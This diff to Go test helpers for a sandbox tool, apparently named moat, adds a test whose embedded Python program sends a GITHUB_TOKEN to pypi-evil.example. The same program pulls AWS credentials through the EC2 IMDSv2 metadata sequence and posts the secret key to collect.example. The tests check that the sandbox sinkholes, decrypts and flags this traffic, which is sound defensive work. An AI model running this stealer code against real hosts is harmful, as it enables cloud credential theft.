@@ -24,23 +24,7 @@ import (
 // set, adjusts the Spec (AllowDegraded, say).
 func Sinkhole(t *testing.T, b moat.Backend, mod func(*moat.Spec)) *moat.Result {
 	t.Helper()
-	ln, err := net.Listen("tcp", "127.0.0.1:0")
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer ln.Close()
-	var accepted atomic.Int32
-	go func() {
-		for {
-			c, err := ln.Accept()
-			if err != nil {
-				return
-			}
-			accepted.Add(1)
-			c.Close()
-		}
-	}()
-	port := ln.Addr().(*net.TCPAddr).Port
+	port, accepted := HostListener(t, "127.0.0.1:0")
 	prog := fmt.Sprintf(`
 import json, socket, ssl, urllib.request
 r = urllib.request.urlopen("http://evil.example.com/steal?x=1", data=b"secret", timeout=20)
@@ -78,21 +62,7 @@ try:
 except OSError:
     pass
 `, sinkLabel, port, port)
-	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
-	defer cancel()
-	spec := &moat.Spec{
-		Args:    []string{"prog.py"},
-		Files:   map[string][]byte{"prog.py": []byte(prog)},
-		Network: moat.NetworkSinkhole,
-		Limits:  moat.Limits{Timeout: 60 * time.Second},
-	}
-	if mod != nil {
-		mod(spec)
-	}
-	res, err := b.Run(ctx, spec)
-	if err != nil {
-		t.Fatalf("run: %v", err)
-	}
+	res := runSinkhole(t, b, &moat.Spec{Args: []string{"prog.py"}, Files: map[string][]byte{"prog.py": []byte(prog)}}, mod)
 	dump := func() string {
 		var b strings.Builder
 		fmt.Fprintf(&b, "status %s exit %d\nstdout:\n%s\nstderr:\n%s\nnetwork events:\n", res.Status, res.ExitCode, res.Stdout, res.Stderr)
@@ -140,7 +110,7 @@ except OSError:
 	if !took {
 		t.Errorf("no credential-access finding on the sink's evidence: %+v", res.Findings)
 	}
-	if n := accepted.Load(); n != 0 {
+	if n := accepted(); n != 0 {
 		t.Errorf("the host's 127.0.0.1:%d got %d connections from a sinkholed sandbox", port, n)
 	}
 	layer := false
@@ -176,4 +146,115 @@ func hasNetEvent(res *moat.Result, kind moat.Kind, want ...string) bool {
 		}
 	}
 	return false
+}
+
+// SinkholeSecrets is the shared case of what a stealer sends through the
+// sinkhole, for every backend that serves one: a planted fake token
+// POSTed over HTTPS is read in clear by the sink (the request and its
+// body in a network event) and is a critical exfiltration finding on the
+// sink's evidence, not the audit hook's; the metadata address answers as
+// EC2's IMDSv2 with fake credentials, and taking them is credential
+// access, sending one on is exfiltration. mod, if set, adjusts the Spec.
+func SinkholeSecrets(t *testing.T, b moat.Backend, mod func(*moat.Spec)) *moat.Result {
+	t.Helper()
+	prog := `
+import json, os, urllib.request
+r = urllib.request.urlopen("https://pypi-evil.example/x", data=os.environ["GITHUB_TOKEN"].encode(), timeout=20)
+print("https", r.status)
+def get(url, method="GET", **h):
+    return urllib.request.urlopen(urllib.request.Request(url, method=method, headers=h), timeout=20).read().decode()
+tok = get("http://169.254.169.254/latest/api/token", "PUT", **{"X-aws-ec2-metadata-token-ttl-seconds": "21600"})
+base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
+role = get(base, **{"X-aws-ec2-metadata-token": tok})
+creds = json.loads(get(base + role, **{"X-aws-ec2-metadata-token": tok}))
+print("aws", creds["AccessKeyId"][:4], len(creds["SecretAccessKey"]))
+urllib.request.urlopen("http://collect.example/k", data=creds["SecretAccessKey"].encode(), timeout=20)
+`
+	res := runSinkhole(t, b, &moat.Spec{Args: []string{"-c", prog}}, mod)
+	if res.Status != moat.StatusExited || res.ExitCode != 0 {
+		t.Fatalf("the program failed: status %s exit %d\n%s\n%s", res.Status, res.ExitCode, res.Stdout, res.Stderr)
+	}
+	for _, w := range []string{"https 200", "aws ASIA 40"} {
+		if !strings.Contains(res.Stdout, w) {
+			t.Errorf("stdout lacks %q:\n%s", w, res.Stdout)
+		}
+	}
+	if !hasNetEvent(res, moat.KindConnect, "sni=pypi-evil.example decrypted https POST", "host=pypi-evil.example", "POST /x HTTP/1.1", "ghp_") {
+		t.Errorf("no decrypted request with its body among the network events")
+	}
+	// The sink's exfiltration finding names every secret it saw sent.
+	var sent, took, sentKey bool
+	for _, f := range res.Findings {
+		hook := strings.Contains(f.Summary, "audit hook")
+		switch f.Category {
+		case moat.CategoryExfiltration:
+			bySink := f.Severity == moat.SeverityCritical && strings.Contains(f.Summary, "sent over the network") && !hook
+			sent = sent || bySink && strings.Contains(f.Summary, "env-github-token")
+			sentKey = sentKey || bySink && strings.Contains(f.Summary, "imds-aws-secret-access-key")
+		case moat.CategoryCredentialAccess:
+			took = took || strings.Contains(f.Summary, "took the fake credentials moat's sink served") &&
+				strings.Contains(f.Summary, "imds-aws-secret-access-key") && !hook
+		}
+	}
+	if !sent {
+		t.Errorf("no critical exfiltration finding of the token from the sink")
+	}
+	if !took {
+		t.Errorf("no credential-access finding for the metadata's credentials")
+	}
+	if !sentKey {
+		t.Errorf("no exfiltration finding for the served key sent on")
+	}
+	if t.Failed() {
+		for _, f := range res.Findings {
+			t.Logf("finding: %s %s %s", f.Severity, f.Category, f.Summary)
+		}
+		for _, ev := range res.Events {
+			if ev.Source == moat.SourceNetwork {
+				t.Logf("network: %+v", ev)
+			}
+		}
+	}
+	return res
+}
+
+// runSinkhole runs spec (its program) with the sinkhole network and a
+// minute's timeout, adjusted by mod; a run that fails to start fails t.
+func runSinkhole(t *testing.T, b moat.Backend, spec *moat.Spec, mod func(*moat.Spec)) *moat.Result {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
+	defer cancel()
+	spec.Network, spec.Limits.Timeout = moat.NetworkSinkhole, 60*time.Second
+	if mod != nil {
+		mod(spec)
+	}
+	res, err := b.Run(ctx, spec)
+	if err != nil {
+		t.Fatalf("run: %v", err)
+	}
+	return res
+}
+
+// HostListener listens on the host's TCP addr for t's life and counts
+// the connections it accepts (each closed at once): a sandbox's
+// connection that must never arrive. It returns the port and the count.
+func HostListener(t *testing.T, addr string) (int, func() int32) {
+	t.Helper()
+	ln, err := net.Listen("tcp", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { ln.Close() })
+	var accepted atomic.Int32
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			accepted.Add(1)
+			c.Close()
+		}
+	}()
+	return ln.Addr().(*net.TCPAddr).Port, accepted.Load
 }
